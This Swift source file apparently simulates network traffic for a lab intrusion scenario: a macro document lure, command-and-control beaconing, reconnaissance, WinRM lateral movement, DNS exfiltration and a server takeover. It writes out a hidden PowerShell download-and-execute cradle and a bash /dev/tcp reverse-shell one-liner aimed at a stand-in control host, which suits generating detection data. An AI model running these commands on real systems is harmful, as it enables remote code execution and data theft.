/// What follows the approach: from the document to the server that answers a stranger.

/// The machines and addresses of the intrusion, for those who tell the story.
struct Intrusion {
  var workstation: Machine
  var lure: Site
  var control: Station
  var controlName: String
  /// When the document was fetched.
  var began: LabTime
  var reached: [Machine]
  var server: Machine
  var serverShell: LabTime
  var implant: String
}

extension NetworkDay {
  func makeIntrusion(_ approach: Approach) -> Intrusion? {
    guard let workstation = machines.first(where: { $0.owner?.id == approach.target.id }),
      let controller = machine("TWDC01"), let files = machine("TWFS01"), let database = machine("TWSQL01"),
      let application = machine("twapp01"), let browser = workstation.programs["network"],
      let shell = workstation.programs["shell"],
      let owner = workstation.owner
    else { return nil }
    let lure = Site(
      name: approach.domain,
      station: Station(address: LabAddress(198, 51, 100, 247), mac: router, ttl: 49, isUnix: true, delay: 21_000_000),
      station6: nil, alias: nil, isModern: true)
    let control = Site(
      name: "assets.quietharbor.test",
      station: Station(address: LabAddress(203, 0, 113, 214), mac: router, ttl: 47, isUnix: true, delay: 38_000_000),
      station6: nil, alias: nil, isModern: true)
    let began = start + 9 * minute + random.seconds(0, 50)

    // The document, by the browser, over HTTP.
    var talk = connect(
      browser, to: lure.station, port: 80, at: resolve(workstation, lure, at: began, malicious: true), name: lure.name,
      malicious: true)
    talk.handshake()
    talk.say(
      .client,
      WebMessages.request(
        "GET", approach.path, host: lure.name, agent: Self.agent(browser),
        headers: [
          ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
          ("Referer", "https://www.linkedin.example/messaging/"), ("Upgrade-Insecure-Requests", "1"),
        ]))
    talk.say(
      .server,
      WebMessages.response(
        "200 OK", talk.now, type: "application/vnd.ms-word.document.macroEnabled.12", server: "Apache",
        headers: [("Content-Disposition", "attachment; filename=\"Internal_Role_Brief.docm\"")],
        body: [0x50, 0x4b, 3, 4, 0x14, 0, 6, 0] + random.bytes(61_000)), after: 40_000_000)
    talk.end(.fin, by: .server, after: 5 * second)

    // The document opens, and opens something else.
    let downloads = "C:\\Users\\\(owner.login)\\Downloads\\"
    let word = workstation.process(
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"\(downloads)Internal_Role_Brief.docm\" /o \"\"",
      parent: shell, cwd: downloads)
    let opened = talk.now + random.seconds(14, 30)
    log(opened, .start(word), on: workstation)
    let script =
      "$c=New-Object Net.WebClient;$c.Headers.Add('X-Id','4c1');IEX $c.DownloadString('http://\(control.name)/lib/ui.js')"
    let powershell = workstation.process(
      Machine.system32 + "WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc \(base64(utf16(script)))", parent: word, cwd: downloads)
    let run = opened + random.seconds(19, 34)
    log(run, .start(powershell), on: workstation)
    let console = workstation.process(
      Machine.system32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
      parent: powershell)
    log(run + 40_000_000, .start(console), on: workstation)

    var at = resolve(workstation, control, at: run + second, malicious: true)
    let agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.17763.1"
    talk = connect(powershell, to: control.station, port: 80, at: at, malicious: true)
    talk.handshake()
    talk.say(
      .client,
      WebMessages.request(
        "GET", "/lib/ui.js", host: control.name, agent: nil, headers: [("X-Id", "4c1"), ("Connection", "Keep-Alive")]))
    talk.say(
      .server,
      WebMessages.response(
        "200 OK", talk.now, type: "application/javascript", server: "nginx",
        body: Array("function Invoke-Ui{$k='".utf8) + Array(base64(random.bytes(7200)).utf8) + Array("'}\n".utf8)),
      after: 12_000_000)
    talk.end(.fin, by: .server, after: second)

    beacon(powershell, control, agent, from: talk.now + 8 * second)
    strays(workstation, control.station, from: talk.now + 2 * minute)

    // Who is who, from the directory.
    at = run + 3 * minute + random.seconds(0, 20)
    search(
      powershell, controller, at: at,
      [("objectClass", "computer"), ("adminCount", "1"), ("servicePrincipalName", "*")], malicious: true, entries: 9)

    // A second program, and what it reaches for.
    let image = downloads + "lensview_update.exe"
    let implant = workstation.process(image, "\"\(image)\" /s 10.20.0.0/26", parent: powershell, cwd: downloads)
    let second2 = run + 7 * minute
    log(second2, .start(implant), on: workstation)
    sweep(implant, from: second2 + 6 * second)
    share(implant, files, at: second2 + 40 * second, user: owner.login, messages: 9, malicious: true)
    manage(implant, database, at: second2 + 3 * minute, user: owner.login)
    manage(powershell, files, at: second2 + 5 * minute, user: owner.login)
    smuggle(implant, control.station, from: second2 + 9 * minute)

    let shellAt = takeServer(application, from: implant, control.station, at: second2 + 14 * minute)
    return Intrusion(
      workstation: workstation, lure: lure, control: control.station, controlName: control.name, began: began,
      reached: [controller, files, database, application], server: application, serverShell: shellAt, implant: image)
  }

  /// A request every three quarters of a minute, more or less.
  private func beacon(_ process: HostProcess, _ control: Site, _ agent: String, from: LabTime) {
    var at = from
    let session = random.hex(32)
    while at < end - 10 * second {
      var talk = connect(process, to: control.station, port: 80, at: at, malicious: true)
      talk.handshake()
      let path = random.pick(["/news.php", "/admin/get.php", "/login/process.php"])
      if random.chance(0.3) {
        talk.say(
          .client,
          WebMessages.request(
            "POST", path, host: control.name, agent: agent, headers: [("Cookie", "session=\(session)")],
            body: random.bytes(random.within(80...900))))
      } else {
        talk.say(
          .client,
          WebMessages.request(
            "GET", path, host: control.name, agent: agent, headers: [("Cookie", "session=\(session)")]))
      }
      talk.say(
        .server,
        WebMessages.response(
          "200 OK", talk.now, type: "text/html", server: "Microsoft-IIS/7.5",
          body: random.bytes(random.chance(0.2) ? random.within(300...2400) : 128)), after: 9_000_000)
      talk.end(.fin, by: .server)
      at += random.seconds(36, 55)
    }
  }

  /// Segments that belong to no connection, both ways: the control's server knocks, the machine answers with resets.
  private func strays(_ machine: Machine, _ control: Station, from: LabTime) {
    for round in 0..<3 {
      let at = from + Int64(round) * 8 * minute
      let port = 40_000 + random.below(9000)
      for step in 0..<random.within(5...8) {
        let time = at + Int64(step) * 700_000_000 + random.seconds(0, 0.2)
        let sequence = UInt32(truncatingIfNeeded: random.next())
        Conversation.stray(
          tape, time, from: control, 443, to: machine.station, port, flags: step % 2 == 0 ? 0x10 : 0x18,
          sequence: sequence,
          acknowledgement: UInt32(truncatingIfNeeded: random.next()),
          step % 2 == 0 ? [] : random.bytes(random.within(16...48)))
        if random.chance(0.5) {
          Conversation.stray(
            tape, time + 300_000, from: machine.station, port, to: control, 443, flags: 0x04, sequence: sequence &+ 1,
            acknowledgement: 0)
        }
      }
    }
  }

  /// One port of many machines, as fast as it goes.
  private func sweep(_ process: HostProcess, from: LabTime) {
    var at = from
    for number in 2...62 {
      let server = machines.first { $0.station.address == LabAddress(10, 20, 0, number) }
      // Silent where no machine is: the segment's router answers nothing.
      let target =
        server?.station ?? Station(address: LabAddress(10, 20, 0, number), mac: router, ttl: 64, delay: 200_000)
      var talk = connect(process, to: target, port: 445, at: at, malicious: true)
      if let server, server.listeners[445] != nil {
        talk.handshake()
        talk.end(.reset, after: 2_000_000)
      } else {
        talk.refused(silent: server == nil)
      }
      at += random.seconds(0.01, 0.06)
    }
  }

  /// WinRM: HTTP on 5985 with sealed SOAP. The far side starts its host process.
  private func manage(_ process: HostProcess, _ server: Machine, at time: LabTime, user: String) {
    let ntlm = NTLMMessages(random: random)
    var talk = connect(process, to: server.station, port: 5985, at: time, server: server, malicious: true)
    let host = "\(server.shortName):5985"
    func post(_ token: [UInt8]?, _ body: [UInt8]) -> [UInt8] {
      var headers = [("Connection", "Keep-Alive")]
      if let token { headers.append(("Authorization", "Negotiate \(base64(token))")) }
      headers.append(
        (
          "Content-Type",
          body.isEmpty
            ? "application/soap+xml;charset=UTF-8"
            : "multipart/encrypted;protocol=\"application/HTTP-SPNEGO-session-encrypted\";boundary=\"Encrypted Boundary\""
        ))
      return WebMessages.request(
        "POST", "/wsman?PSVersion=5.1.17763.1", host: host, agent: "Microsoft WinRM Client", headers: headers,
        body: body)
    }
    talk.handshake()
    talk.say(.client, post(ntlm.negotiate(), []))
    talk.say(
      .server,
      WebMessages.response(
        "401 ", talk.now, type: nil, server: "Microsoft-HTTPAPI/2.0",
        headers: [("WWW-Authenticate", "Negotiate \(base64(ntlm.challenge(organisation.netbios)))")]), after: 900_000)
    talk.say(.client, post(ntlm.authenticate(organisation.netbios, user, process.machine.shortName), sealedSOAP(1500)))
    talk.say(
      .server,
      WebMessages.response(
        "200 ", talk.now,
        type:
          "multipart/encrypted;protocol=\"application/HTTP-SPNEGO-session-encrypted\";boundary=\"Encrypted Boundary\"",
        server: "Microsoft-HTTPAPI/2.0", body: sealedSOAP(1800)), after: 4_000_000)
    if let launch = server.programs["launch"] {
      let hosted = server.process(
        Machine.system32 + "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
        user: "\(organisation.netbios)\\\(user)", parent: launch)
      log(talk.now, .start(hosted), on: server)
      let question = server.process(
        Machine.system32 + "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", parent: hosted)
      log(talk.now + 2 * second, .start(question), on: server)
      log(talk.now + 2 * second + 90_000_000, .end(question), on: server)
    }
    for _ in 0..<5 {
      talk.say(.client, post(nil, sealedSOAP(random.within(900...1900))), after: random.seconds(0.4, 7))
      talk.say(
        .server,
        WebMessages.response(
          "200 ", talk.now,
          type:
            "multipart/encrypted;protocol=\"application/HTTP-SPNEGO-session-encrypted\";boundary=\"Encrypted Boundary\"",
          server: "Microsoft-HTTPAPI/2.0", body: sealedSOAP(random.within(700...2600))), after: 30_000_000)
    }
    talk.end(.fin, after: 20 * second)
  }

  /// MS-WSMV 2.2.9.1.1.1.
  private func sealedSOAP(_ count: Int) -> [UInt8] {
    var out = Array(
      "--Encrypted Boundary\r\nContent-Type: application/HTTP-SPNEGO-session-encrypted\r\nOriginalContent: type=application/soap+xml;charset=UTF-8;Length=\(count)\r\n--Encrypted Boundary\r\nContent-Type: application/octet-stream\r\n"
        .utf8)
    // The signature of MS-NLMP 2.2.2.9.1: version, checksum, sequence number.
    out.le32(16)
    out.le32(1)
    out += random.bytes(8)
    out.le32(0)
    return out + random.bytes(count) + Array("--Encrypted Boundary--\r\n".utf8)
  }

  /// Data in messages that only look like queries, to a server that is no resolver.
  private func smuggle(_ process: HostProcess, _ control: Station, from: LabTime) {
    var at = from
    for number in 0..<14 {
      let id = random.below(65_536)
      let data = random.bytes(random.within(24...62))
      let message = NameMessages.smuggled(id, data, badLabel: number % 3 != 0)
      at = exchange(
        process, to: control, port: 53, at: at, seen: 1, malicious: true, message,
        number % 4 == 0 ? NameMessages.smuggled(id, random.bytes(30), badLabel: true) : nil)
      at += random.seconds(0.8, 4)
    }
  }

  /// The planning application is made to call out: java starts bash, and bash speaks in clear on 443.
  private func takeServer(_ server: Machine, from process: HostProcess, _ control: Station, at time: LabTime) -> LabTime
  {
    guard let java = server.programs["java"] else { return time }
    var talk = connect(process, to: server.station, port: 8080, at: time, server: server, malicious: true)
    let call = "bash -i >& /dev/tcp/\(control.address.text)/443 0>&1"
    talk.handshake()
    talk.say(
      .client,
      WebMessages.request(
        "POST", "/planner/api/import", host: "\(server.station.address.text):8080", agent: "curl/8.5.0",
        headers: [("Content-Type", "application/x-java-serialized-object")],
        body: [0xac, 0xed, 0, 5, 0x73, 0x72] + random.bytes(420) + Array(call.utf8)))
    talk.say(
      .server,
      WebMessages.response(
        "500 ", talk.now, type: "text/html;charset=UTF-8", server: "planner",
        body: WebMessages.page("Error", random, paragraphs: 1)), after: 60_000_000)
    talk.end(.fin, by: .server, after: second)

    let at = talk.now - second + 40_000_000
    let shell = server.process("/usr/bin/bash", "bash -c '\(call)'", user: "planner", parent: java, cwd: "/opt/planner")
    log(at, .start(shell), on: server)
    var out = connect(shell, to: control, port: 443, at: at + 30_000_000, malicious: true)
    out.handshake()
    let prompt = "planner@\(server.shortName):/opt/planner$ "
    out.say(
      .client,
      Array(
        "bash: cannot set terminal process group (\(java.pid)): Inappropriate ioctl for device\nbash: no job control in this shell\n\(prompt)"
          .utf8), after: 10_000_000)
    for (command, image, answer) in [
      ("id", "/usr/bin/id", "uid=998(planner) gid=998(planner) groups=998(planner)\n"),
      (
        "uname -a", "/usr/bin/uname",
        "Linux \(server.shortName) 6.1.0-34-amd64 #1 SMP PREEMPT_DYNAMIC Debian x86_64 GNU/Linux\n"
      ),
      (
        "cat /etc/passwd", "/usr/bin/cat",
        "root:x:0:0:root:/root:/bin/bash\nplanner:x:998:998::/opt/planner:/usr/sbin/nologin\n"
      ),
    ] {
      out.say(.server, Array("\(command)\n".utf8), after: random.seconds(4, 30))
      let child = server.process(image, command, user: "planner", parent: shell, cwd: "/opt/planner")
      log(out.now, .start(child), on: server)
      log(out.now + 4_000_000, .end(child), on: server)
      out.say(.client, Array("\(command)\n\(answer)\(prompt)".utf8), after: 6_000_000)
    }
    out.end(.open)
    return at
  }
}
